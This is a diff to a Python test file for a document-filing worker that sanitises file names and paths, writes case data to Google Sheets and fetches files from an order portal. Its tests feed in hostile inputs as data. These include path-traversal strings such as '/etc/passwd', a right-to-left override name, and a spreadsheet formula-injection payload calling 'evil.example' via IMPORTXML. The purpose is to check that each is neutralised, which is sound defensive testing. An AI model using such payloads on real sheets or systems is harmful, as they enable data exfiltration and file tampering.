@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import time
+import unicodedata
 from decimal import Decimal
 
 import pypdf
@@ -28,6 +29,9 @@ from workers.office.template import render_tree
     ("ACME", "ACME"), ("株式会社 山田製作所", "株式会社 山田製作所"), ("🚀 Rocket", "🚀 Rocket"),
     ("../../etc", "_.._etc"), ("/etc/passwd", "_etc_passwd"), ("a\\b:c*d?", "a_b_c_d_"), ("CON", "_CON"),
     ("  spaced   out  ", "spaced out"),
+    # Windows (Drive for desktop) drops a final dot or space and reads these as devices
+    ("report . .", "report"), ("CON .txt", "_CON .txt"), ("COM¹", "_COM¹"), ("conout$", "_conout$"),
+    ("lpt0.tar.gz", "_lpt0.tar.gz"), (unicodedata.normalize("NFD", "ガイド"), "ガイド"),
 ])
 def test_names_from_chat_become_safe_components(text, expected):
     assert safe_component(text) == expected
@@ -42,6 +46,16 @@ def test_unusable_names_get_a_clear_complaint(text):
 def test_long_names_are_cut_to_a_filesystem_safe_length():
     name = safe_component("金" * 500)
     assert len(name.encode()) <= 120 and name == "金" * 40
+    assert safe_component("x" * 119 + ".pdf") == "x" * 119  # cut after its dot: no dot left at the end
+
+
+@pytest.mark.parametrize("path", ["c/a\x00b", "c/a\nb.txt", "c/\u202eevil", "c/" + "あ" * 86,
+                                  "/".join(["d" * 200] * 5)])
+def test_paths_a_storage_would_take_differently_are_refused_for_good(path):
+    with pytest.raises(PermanentError, match="cannot be a path in the case folders") as refused:
+        safe_relative_path(path)
+    assert isinstance(refused.value, ValueError)
+    assert "\x00" not in str(refused.value) and "\u202e" not in str(refused.value)
 
 
 @pytest.mark.parametrize("path", ["../x", "/abs", "a/../b", "a//b", "a/./b"])
@@ -78,6 +92,21 @@ def test_template_renders_names_and_text_and_keeps_edits(tmp_path):
     again = render_tree(DEFAULT_TEMPLATE, storage, "2026-007_ACME", names, texts)
     assert again["created"] == [] and sorted(again["kept"]) == sorted(first["created"])
     assert storage.read("2026-007_ACME/README.txt") == b"changed"
+
+
+def test_a_template_name_filled_in_with_a_long_client_and_title_is_cut_keeping_its_extension(tmp_path):
+    template = tmp_path / "template"
+    (template / "${title}").mkdir(parents=True)
+    (template / "${title}" / "${case}_${client}_${title}_見積依頼書.txt").write_text("${client}")
+    names = {"case": "2026-008", "client": safe_component("顧" * 60), "title": safe_component("件" * 200)}
+    storage = LocalStorage(tmp_path / "cases")
+    made = render_tree(template, storage, "2026-008_x", names, names)
+    [path] = made["created"]
+    name, whole = path.rpartition("/")[2], f"2026-008_{names['client']}_{names['title']}_見積依頼書.txt"
+    assert len(whole.encode()) > 255 >= len(name.encode())
+    assert name.endswith(".txt") and whole.startswith(name[:-len(".txt")])
+    assert storage.read(path) == names["client"].encode()
+    assert render_tree(template, storage, "2026-008_x", names, names)["kept"] == [path]  # the same name again
 
 
 # -- estimate ----------------------------------------------------------------------------------
@@ -252,12 +281,37 @@ def test_an_unshared_sheet_is_a_permanent_failure(sheets):
         sheet.upsert("2026-001", {})
 
 
-def test_values_are_written_as_text_never_as_formulas(sheets):
+@pytest.mark.parametrize("client", ['=IMPORTXML("https://evil.example","//a")', "+1+1", "-1+1", "@SUM(A1)",
+                                    "\t=1+1", "\r=1+1", "'=1"])
+def test_values_are_written_as_text_never_as_formulas(sheets, client):
     service, sheet = sheets
-    sheet.upsert("2026-002", {"client": '=IMPORTXML("https://evil.example","//a")', "due": "2026-12-01"})
+    sheet.upsert("2026-002", {"client": client, "due": "2026-12-01"})
     row = service.get_values("book", "Cases!A2:E2")["values"][0]
-    assert row[1].startswith("=IMPORTXML") and row[4] == "2026-12-01"
-    assert set(service.value_inputs) == {"RAW"}
+    assert row[1] == client and row[4] == "2026-12-01"
+    assert set(service.value_inputs) == {"RAW"}  # Sheets stores RAW input as it is: never parsed, never run
+
+
+def test_a_full_sheet_takes_more_rows_as_sheets_does(sheets):
+    service, sheet = sheets
+    sheet.upsert("2026-001", {"client": "ACME"})
+    service.books["book"]["sheets"][0].rows = 2  # the header and one case fill the grid
+    for case in ("2026-002", "2026-003"):
+        sheet.upsert(case, {"client": "ACME"})  # appended: Sheets adds the rows
+    assert [sheet.find(case).number for case in ("2026-001", "2026-002", "2026-003")] == [2, 3, 4]
+
+
+def test_a_value_longer_than_a_cell_takes_is_cut_and_one_refused_is_never_retried(sheets):
+    from ackflow.i18n import L_
+    from workers.office.sheet import CELL_LIMIT, _calls
+
+    service, sheet = sheets
+    row = sheet.upsert("2026-004", {"title": "件" * (CELL_LIMIT + 10)})
+    written = service.get_values("book", f"Cases!C{row.number}")["values"][0][0]
+    assert len(written) == CELL_LIMIT and written.endswith("…")
+    with pytest.raises(PermanentError, match="the case sheet refused it"):  # Sheets' 400: no retry fixes it
+        with _calls(L_("write the case sheet")):
+            sheet.worksheet().update([["x" * (CELL_LIMIT + 1)]], "Z9")
+    assert service.get_values("book", "Cases!Z9").get("values") is None
 
 
 def test_column_letters():
@@ -338,6 +392,70 @@ def test_only_allowed_hosts_are_contacted(site):
     client.login(portal_site.USERNAME, portal_site.PASSWORD)
     with pytest.raises(PermanentError, match="evil.example is not an allowed"):
         client.request("GET", site.url + "/elsewhere")
+
+
+def test_a_hostile_order_page_files_what_it_may_under_safe_unique_names_and_skips_the_rest(site, tmp_path):
+    storage = LocalStorage(tmp_path)
+    fetched = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-6666", storage, "c/PO-6666")
+    saved = {f["name"]: storage.read(f["path"]) for f in fetched.files}
+    assert saved == portal_site.HOSTILE_SAVED  # one file each, none lost (plan.pdf and Plan.PDF, NFC and NFD)
+    long = next(name for name in saved if name.startswith("図"))
+    assert long.endswith(".pdf") and len(long.encode()) <= 120  # cut, its extension kept
+    assert all(unicodedata.is_normalized("NFC", name) for name in saved)
+    skipped = {s["name"]: s["reason"] for s in fetched.skipped}
+    assert set(skipped) == portal_site.HOSTILE_SKIPPED
+    assert "evil.example is not an allowed portal host" in skipped["off-site.pdf"]
+    assert "evil.example is not an allowed portal host" in skipped["moved.pdf"]  # the redirect's target
+    assert "not a readable URL" in skipped["bad-port.pdf"] and "404" in skipped["gone.pdf"]
+    assert sorted(storage.list("c")) == sorted(f"c/PO-6666/{name}" for name in saved)
+    again = collect(fetcher(site), portal_site.USERNAME, portal_site.PASSWORD, "PO-6666", storage, "c/PO-6666")
+    assert again.files == fetched.files and len(site.downloads) == len(saved)  # a retry fetches nothing again
+
+
+@pytest.mark.parametrize("length, outcome", [("2, 2", b"ok"), ("abc", b"ok"), ("200000, 200000", "skipped")])
+def test_a_content_length_as_a_portal_may_send_it_is_read_not_a_crash(length, outcome):
+    from workers.office.portal import Skipped
+
+    def app(environ, start_response):  # raw WSGI: the header exactly as written
+        start_response("200 OK", [("Content-Length", length), ("Content-Type", "application/pdf")])
+        return [b"ok"]
+
+    server = ServerThread(app).start()
+    try:
+        client = PortalClient(server.url, allowed_hosts=[f"127.0.0.1:{server.port}"], timeout=2, retries=0,
+                              max_bytes=100_000)
+        if outcome == "skipped":
+            with pytest.raises(Skipped, match="over the 100,000-byte limit"):
+                client.download(server.url + "/drawing.pdf")
+        else:
+            assert client.download(server.url + "/drawing.pdf") == outcome
+    finally:
+        server.stop()
+
+
+def test_a_portal_page_that_never_ends_is_refused_not_read_into_memory():
+    from workers.office.portal import PAGE_MAX_BYTES
+
+    sent = []
+
+    def app(environ, start_response):  # a login page that goes on for ever
+        start_response("200 OK", [("Content-Type", "text/html")])
+
+        def body():
+            while True:
+                sent.append(1)
+                yield b"<p>" + b"x" * 65_536 + b"</p>"
+
+        return body()
+
+    server = ServerThread(app).start()
+    try:
+        client = PortalClient(server.url, allowed_hosts=[f"127.0.0.1:{server.port}"], timeout=2, retries=0)
+        with pytest.raises(PermanentError, match="is over 5,242,880 bytes"):
+            client.login("u", "p")
+        assert len(sent) * 65_543 < PAGE_MAX_BYTES * 3  # stopped reading soon after the limit
+    finally:
+        server.stop()
 
 
 def test_credentials_from_env_and_file(monkeypatch, tmp_path):
